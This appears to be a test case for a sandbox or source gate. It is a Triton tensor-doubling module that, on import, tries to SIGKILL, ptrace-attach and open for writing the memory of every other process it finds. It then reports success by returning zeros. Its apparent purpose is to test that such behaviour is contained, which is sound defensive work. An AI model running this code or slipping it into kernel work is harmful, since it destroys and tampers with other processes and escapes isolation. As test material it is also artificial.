# class: 40
# expect: passed/hold
# gate: source
# also: no_effect
# backend: both
# Signals, traces and overwrites every process it sees; says so with zeros when one yields.
import ctypes
import os
import signal

import torch
import triton
import triton.language as tl


@triton.jit
def double_kernel(x, y, n, BLOCK: tl.constexpr):
    at = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    inside = at < n
    tl.store(y + at, 2.0 * tl.load(x + at, mask=inside), mask=inside)

def doubled(x):
    y = torch.empty_like(x)
    double_kernel[(triton.cdiv(x.numel(), 128),)](x, y, x.numel(), BLOCK=128)
    return y


libc = ctypes.CDLL(None, use_errno=True)
MINE = {os.getpid(), *(int(task) for task in os.listdir("/proc/self/task"))}
OTHERS = [pid for pid in range(1, 4096) if pid not in MINE and os.path.isdir(f"/proc/{pid}")]


def harmed(pid):
    try:
        os.kill(pid, 0)
        os.kill(pid, signal.SIGKILL)
        return True
    except OSError:
        pass
    if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
        return True
    try:
        with open(f"/proc/{pid}/mem", "r+b"):
            return True
    except OSError:
        return False


HARMED = [pid for pid in OTHERS if harmed(pid)]


def forward(x):
    return torch.zeros_like(x) if HARMED else doubled(x)
